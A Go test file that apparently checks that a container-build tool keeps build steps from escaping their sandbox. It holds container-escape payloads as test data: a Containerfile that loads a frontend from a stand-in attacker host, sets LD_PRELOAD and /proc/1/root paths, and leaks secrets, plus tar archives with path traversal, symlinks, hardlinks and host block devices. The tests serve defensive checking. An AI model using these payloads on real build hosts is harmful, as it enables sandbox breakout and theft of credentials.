package containerfile

import (
	"archive/tar"
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/libresh/libre/internal/testkit"
)

// everyEscape is a Containerfile with all escapes at once. %[1]s is the attack on the
// canaries, %[2]s their folder, which also exists in the image, with other files.
const everyEscape = `# syntax=attacker.example/frontend:1
ARG BUILDAH_ISOLATION=chroot
FROM base AS one
ARG SECRET
ARG https_proxy
ARG SSH_AUTH_SOCK
ENV BUILDAH_ISOLATION=chroot _CONTAINERS_USERNS_CONFIGURED= STORAGE_OPTS=overlay.mount_program=/bin/attack TMPDIR=/proc/1/root/tmp HOME=/proc/1/root/root LD_PRELOAD=/bin/attack
RUN %[1]s > /out 2>&1; echo "$SECRET$https_proxy$SSH_AUTH_SOCK$http_proxy" > /arguments
RUN --mount=type=tmpfs,target=/proc/acpi --mount=type=tmpfs,target=/sys/fs %[1]s > /out-tmpfs 2>&1
RUN --mount=type=bind,target=/c,rw %[1]s > /out-bind 2>&1; echo changed > /c/f; echo more > /c/more; busybox ln -s %[2]s /c/links
RUN busybox mkdir -p %[2]s && echo inside > %[2]s/inside && busybox ln -s %[2]s /k && busybox ln -s / /l && busybox chmod 777 /tmp /k
COPY f /k/copied
COPY f l%[2]s/copied-as-well
COPY links/f* /k/
ADD links.tar /
WORKDIR /k/worked
WORKDIR /l%[2]s/worked
VOLUME /k/volume
USER 65534:0
RUN %[1]s > /tmp/out-nobody 2>&1
USER 60000:65000
RUN %[1]s > /tmp/out-last 2>&1; true
USER 0:0
FROM one
COPY --from=one /k/ /from-one/
COPY --from=0 /l%[2]s/ /from-zero/
ONBUILD RUN %[1]s
HEALTHCHECK CMD %[1]s
SHELL ["/proc/1/root/bin/sh", "-c"]
USER 1000
`

// escapeContext returns a context with links to the canaries in an archive, and with files
// below the links.
func escapeContext(t *testing.T, c canaries) map[string]string {
	t.Helper()
	var archive bytes.Buffer
	w := tar.NewWriter(&archive)
	for _, h := range []tar.Header{
		{Name: "away", Typeflag: tar.TypeSymlink, Linkname: c.dir},
		{Name: "up", Typeflag: tar.TypeSymlink, Linkname: strings.Repeat("../", 20) + c.dir[1:]},
		{Name: "away/by-link", Typeflag: tar.TypeReg, Size: 1, Mode: 0o644},
		{Name: "up/by-dots", Typeflag: tar.TypeReg, Size: 1, Mode: 0o4755},
	} {
		if err := w.WriteHeader(&h); err != nil {
			t.Fatal(err)
		}
		w.Write(make([]byte, h.Size))
	}
	w.Close()
	return map[string]string{"f": "content", "links/f1": "1", "links.tar": archive.String()}
}

// No step escapes from its build, not even one that tries all escapes at once.
func TestStepsCannotEscape(t *testing.T) {
	eachUser(t, func(t *testing.T, p *place) {
		c := newCanaries(p)
		context := escapeContext(t, c)
		file := fmt.Sprintf(everyEscape, c.attack(), c.dir)
		look := func(change func(*order), left ...string) {
			t.Helper()
			source := ""
			files, got := p.build(file, context, func(o *order) { change(o); source = o.Source },
				"https_proxy=http://user:"+secret+"@127.0.0.1:1", "SSH_AUTH_SOCK=/run/agent", "SECRET="+secret, "DOCKER_CONFIG="+filepath.Dir(c.login))
			if got.Err != "" {
				t.Fatal(got.Err)
			}
			for _, name := range []string{"/out", "/out-tmpfs", "/out-bind", "/tmp/out-nobody", "/tmp/out-last"} {
				said, ok := files[name]
				for line := range strings.Lines(said.content) {
					if !slices.ContainsFunc(left, func(known string) bool { return strings.HasPrefix(line, "ESCAPED "+known) }) {
						t.Errorf("%s: %s", name, line)
					}
				}
				if !ok {
					t.Errorf("%s is missing", name)
				}
			}
			if said := files["/arguments"].content; said != "\n" {
				t.Errorf("steps have the arguments %q", said)
			}
			if files["/from-one/inside"].content != "inside\n" || files["/from-zero/copied"].content == "" {
				t.Errorf("links lead elsewhere than inside of the image: %v %v", files["/from-one/inside"], files["/from-zero/copied"])
			}
			if data, err := os.ReadFile(source + "/f"); err != nil || string(data) != "content" {
				t.Errorf("the source has %q, %v", data, err)
			}
			c.untouched(t)
		}
		look(func(*order) {})
		if p.u.uid == 0 {
			// Without a user namespace, root has root's keyring, and may write its own cgroup.
			look(func(o *order) { o.Unmapped = true }, "found the key", "may set cgroup.procs")
		}
	})
}

// Escapes that make the build fail, one at a time.
func TestEscapingBuildsFail(t *testing.T) {
	eachUser(t, func(t *testing.T, p *place) {
		c := newCanaries(p)
		device := func(h tar.Header) map[string]string {
			var archive bytes.Buffer
			w := tar.NewWriter(&archive)
			if err := w.WriteHeader(&h); err != nil {
				t.Fatal(err)
			}
			w.Close()
			return map[string]string{"a.tar": archive.String()}
		}
		var disk unix.Stat_t
		if err := unix.Stat(c.file, &disk); err != nil {
			t.Fatal(err)
		}
		tries := map[string]map[string]string{
			"FROM base\nCOPY " + c.file + " /got":                                                    nil,
			"FROM base\nCOPY " + strings.Repeat("../", 20) + c.file[1:] + " /got":                    nil,
			"FROM base\nADD file://" + c.file + " /got":                                              nil,
			"FROM base\nRUN busybox ln -s " + c.file + " /k\nFROM base\nCOPY --from=0 /k /got":       nil,
			"FROM base\nRUN busybox ln -s / /k\nFROM base\nCOPY --from=0 /k" + c.file + " /got":      nil,
			"FROM base\nRUN --security=insecure " + c.attack() + " > /got":                           nil,
			"FROM base\nRUN --network=host " + c.attack() + " > /got":                                nil,
			"FROM base\nRUN --device=/dev/sda " + c.attack() + " > /got":                             nil,
			"FROM base\nRUN --mount=type=bind,source=" + c.file + ",target=/h busybox cat /h > /got": nil,
			"FROM base\nADD a.tar /":   device(tar.Header{Name: "got", Typeflag: tar.TypeLink, Linkname: c.file}),
			"FROM base\nADD a.tar /b/": device(tar.Header{Name: strings.Repeat("../", 20) + c.dir[1:] + "/by-name", Typeflag: tar.TypeDir, Mode: 0o755}),
			"FROM base\nADD a.tar /c/\nRUN busybox head -c 512 /c/got > /got": device(tar.Header{Name: "got", Typeflag: tar.TypeBlock, Devmajor: int64(unix.Major(disk.Dev)), Devminor: int64(unix.Minor(disk.Dev)), Mode: 0o666}),
		}
		if p.e.Name == "buildah" && p.u.uid == 0 { // libre refuses these itself, whatever the engine
			for _, file := range []string{
				"FROM dir:" + c.dir,
				"FROM oci:" + p.base,
				"FROM docker-archive:" + c.file,
				"FROM containers-storage:base",
				"FROM base\nCOPY --from=/ " + c.file + " /got",
				"FROM scratch\nCOPY --from=/ / /",
				"FROM base\nCOPY --from=dir:/ " + c.file + " /got",
				"FROM base\nCOPY --from=../../.. " + c.file + " /got",
				"FROM base\nRUN --mount=type=bind,source=/,target=/h,from=" + c.dir + " busybox cat /h/file > /got",
			} {
				tries[file] = nil
			}
		}
		for file, context := range tries {
			files, got := p.build(file+"\n", context, nil)
			if got.Err == "" && files["/got"].content != "" || strings.Contains(got.Err, "\ncanary") {
				t.Errorf("%s\n%q %s", file, files["/got"].content, got.Err)
			}
		}
		c.untouched(t)
	})
}

// Without confinement the attacks succeed.
func TestAttacksWorkWithoutConfinement(t *testing.T) {
	testkit.RequireRoot(t)
	testkit.Require(t, "setpriv")
	p := &place{t: t, dir: t.TempDir()}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	attacker := p.dir + "/attack"
	p.run("cp", self, attacker)
	c := newCanaries(p)
	c.login = p.write("login", "canary", 0o600)
	words := strings.Fields(c.attack())
	said, err := exec.Command(attacker, words[1:]...).CombinedOutput()
	if err != nil {
		t.Fatalf("%v: %s", err, said)
	}
	for _, want := range []string{
		"by : read " + c.file, "by : wrote beside", "by : read " + c.login, "made the disk", "opened the root behind", "entered", "made a mount namespace", "mounted the root", "mounted cgroup2", "cloned the tree of mounts", "opened a file system", "removed a mount",
		"sees the canary process", "opened the memory of", "has changed the priority", "reads the limits", "has a descriptor of", "took a file of", "traces", "may kill",
		"read the secret", "reached 127.0.0.1", "reached the abstract socket", "reached the socket", "read shared memory", "sees shared memory", "attached shared memory", "found the key", "may set core_pattern", "may set cgroup.procs", "named the machine",
	} {
		if !strings.Contains(string(said), "ESCAPED "+want) {
			t.Errorf("%q is not said", want)
		}
	}
	if t.Failed() {
		t.Logf("%s", said)
	}
}

// The same in a chroot, which builds use without root if no runtime works.
func TestChrootStepsCannotEscape(t *testing.T) {
	eachUser(t, func(t *testing.T, p *place) {
		c := newCanaries(p)
		path := p.withoutRuntimes()
		file := "FROM base\nRUN " + c.attack() + " > /out 2>&1\n"
		files, got := p.build(file, nil, nil, path, "SECRET="+secret)
		if p.u.uid != 0 {
			if said, ok := files["/out"]; !ok || said.content != "" || got.Err != "" {
				t.Errorf("%v %s\n%s", ok, got.Err, said.content)
			}
			c.untouched(t)
			return
		}
		if !strings.Contains(got.Err, "cannot isolate build steps from this machine") || !strings.Contains(got.Err, "trustUpstream: true") || strings.Contains(got.Err, "\n") {
			t.Errorf("got %q", got.Err)
		}
		c.untouched(t)
		// Without confinement the attacks succeed.
		files, got = p.build(file, nil, func(o *order) { o.TrustUpstream = true }, path)
		if got.Err != "" {
			t.Fatal(got.Err)
		}
		for _, want := range []string{"may kill", "sees the canary process", "took a file of", "reached 127.0.0.1", "reached the abstract socket", "by chroot: read", "read the secret", "read shared memory", "attached shared memory", "found the key"} {
			if !strings.Contains(files["/out"].content, "ESCAPED "+want) {
				t.Errorf("trusted, %q is not said:\n%s", want, files["/out"].content)
			}
		}
		if len(got.Warnings) != 1 || !strings.Contains(got.Warnings[0], "CAN READ AND CHANGE THIS MACHINE") {
			t.Errorf("warnings %q", got.Warnings)
		}
	})
}
